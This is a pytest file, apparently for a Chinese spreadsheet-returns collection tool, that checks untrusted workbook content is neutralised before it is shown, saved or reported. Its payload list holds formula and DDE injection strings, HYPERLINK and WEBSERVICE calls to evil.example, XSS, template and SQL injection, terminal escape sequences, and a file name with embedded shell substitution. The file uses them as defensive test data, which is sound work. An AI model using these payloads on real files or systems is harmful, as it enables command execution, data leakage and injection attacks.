"""Nothing that arrives in a cell is interpreted anywhere it is shown or written; what is classified leaves no trace (hostile.md C, P7, P8)."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path
from subprocess import CompletedProcess

import pytest
from openpyxl import load_workbook

from returns.build_a import classified
from returns.paper import book, page, parts, saved, xlsx
from steps.office import Office, at, copy_office

PAYLOADS = (
    '=HYPERLINK("http://evil.example/"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '{=WEBSERVICE("http://evil.example/")}',
    "\t=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</td></tr></table><h1>x",
    "{{7*191}}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}${7*191}%s{0.__class__}",
    "[bold]x[/]x[/red][link=http://evil.example/]y[/link]",
    "'; DROP TABLE facts; --",
    "\u202e表反\u202c\u200b零宽",
    "|列|另列|\n# 标题\n[链接](javascript:alert(1))",
)
ESCAPES = ("_x001B_]52;c;aGFjaw==_x0007_", "_x001B_[2J_x001B_[31m红", "_x009B_31m", "_x000D_覆盖")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture
def office(corpus: Office, tmp_path: Path) -> Office:
    """A campaign that has taken in every payload, in cells, sheet name, titles, comments and file name; one row is sent back."""
    found = copy_office(corpus, tmp_path / "campaign")
    rows = [[n, f"{payload}事项", payload, f"已整改：{payload}"] for n, payload in enumerate((*PAYLOADS, *ESCAPES), 1)]
    sent = page(
        body=[*rows, [99, PAYLOADS[0], PAYLOADS[1], ""]], head=["序号", "审批项目名称", "发现存在问题", "整改情况", "<b>{{7*191}}</b>"]
    )
    made = book(("<b>x {{7×7}}", sent))
    data = saved(made)
    (found.folder / "returns" / "区财政局$(touch x)`id`[red]{{7*191}}&<b>.xlsx").write_bytes(data)
    (found.folder / "returns" / "区民政局.xlsx").write_bytes(xlsx(page(body=rows, unit="区民政局")))
    (found.folder / "returns" / "01.xlsx").write_bytes(xlsx(page(unit=PAYLOADS[7])))
    (found.folder / "returns" / "02.xlsx").write_bytes(xlsx(page(unit=PAYLOADS[10], title=PAYLOADS[9] + "表")))
    return found


@pytest.mark.parametrize("command", [("collect", "returns"), ("collect", "returns", "--json"), ("check", "returns/区民政局.xlsx")])
def test_no_control_character_reaches_the_screen(
    office: Office, ducha: Callable[..., CompletedProcess[str]], command: tuple[str, ...]
) -> None:
    done = ducha(*command, cwd=office.folder)
    assert done.returncode in (0, 1), done.stderr
    assert not CONTROL.search(done.stdout.replace("\n", "")) and not CONTROL.search(done.stderr.replace("\n", ""))
    assert "Traceback" not in done.stderr
    assert "1337" not in done.stdout
    if "--json" in command:
        json.loads(done.stdout)


def test_no_marked_copy_and_no_summary_holds_a_formula_or_a_link(office: Office, ducha: Callable[..., CompletedProcess[str]]) -> None:
    office.collect()
    for form in ("xlsx", "md"):
        assert ducha("report", "summary", "--format", form, "--as-of", "2015-11-20", cwd=office.folder).returncode in (0, 1)
    books = [*(office.folder / "returned").glob("*.xlsx"), *(office.folder / "reports").glob("*.xlsx")]
    assert len(books) >= 3
    for path in books:
        for sheet, cell, value in _formulas(path):
            pytest.fail(f"{path.name} {sheet}!{cell} is a formula: {value}")
        for name, part in parts(path.read_bytes()).items():
            text = part.decode("utf-8", "replace")
            assert "1337" not in text and "<ddeLink" not in text, (path.name, name)
            assert not re.search(r'TargetMode="External"', text), (path.name, name)
    text = next((office.folder / "reports").glob("*.md")).read_text(encoding="utf-8")
    assert (
        "1337" not in text
        and "<script" not in text
        and not re.search(r"(?<!\\)\]\(javascript", text)
        and not CONTROL.search(text.replace("\n", ""))
    )


def _formulas(path: Path) -> Iterator[tuple[str, str, object]]:
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield sheet.title, cell.coordinate, cell.value


def test_what_is_classified_leaves_neither_bytes_nor_hash_nor_text(corpus: Office, tmp_path: Path) -> None:
    import hashlib

    office = copy_office(corpus, tmp_path / "campaign")
    files = classified()
    for name, data in files.items():
        (office.folder / "returns" / name).write_bytes(data)
    before = {path for path in (office.folder / ".duchá").rglob("*") if path.is_file()}
    office.collect()
    secret = [data for name, data in files.items() if name != "区民政局.xlsx"]
    added = [path for path in office.folder.rglob("*") if path.is_file() and path not in before and path.parent.name != "returns"]
    assert not [path for path in added if path.read_bytes() in secret]
    with sqlite3.connect(office.folder / ".duchá" / "journal.sqlite3") as store:
        told = "".join(store.iterdump())
    store.close()
    assert "机密" not in told and "秘密" not in told
    assert not [data for data in secret if hashlib.sha256(data).hexdigest() in told]


def test_a_live_formula_of_theirs_is_never_passed_on(corpus: Office, tmp_path: Path) -> None:
    office = copy_office(corpus, tmp_path / "campaign")
    made = book(("Sheet1", page(body=[[1, "会计从业资格许可", "超时2件", ""], [2, "代理记账许可", "", "已整改"]])))
    made.worksheets[0]["F5"], made.worksheets[0]["C6"] = "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/","点我")'
    (office.folder / "returns" / "附件2.xlsx").write_bytes(saved(made))
    (item,) = office.collect().submissions
    assert item["status"] == "sent-back"
    assert not list(_formulas(office.folder / item["marked_copy"]))


def test_the_payloads_come_back_as_they_were_typed(office: Office) -> None:
    from duchá.steps.report_summary import summary_of

    office.collect()
    shown = {
        str(cell) for found in summary_of(office.open(at(20)), full=True).pages for row in found.rows for cell in row if cell is not None
    }
    for payload in PAYLOADS[:6]:
        assert any(payload in text for text in shown), payload
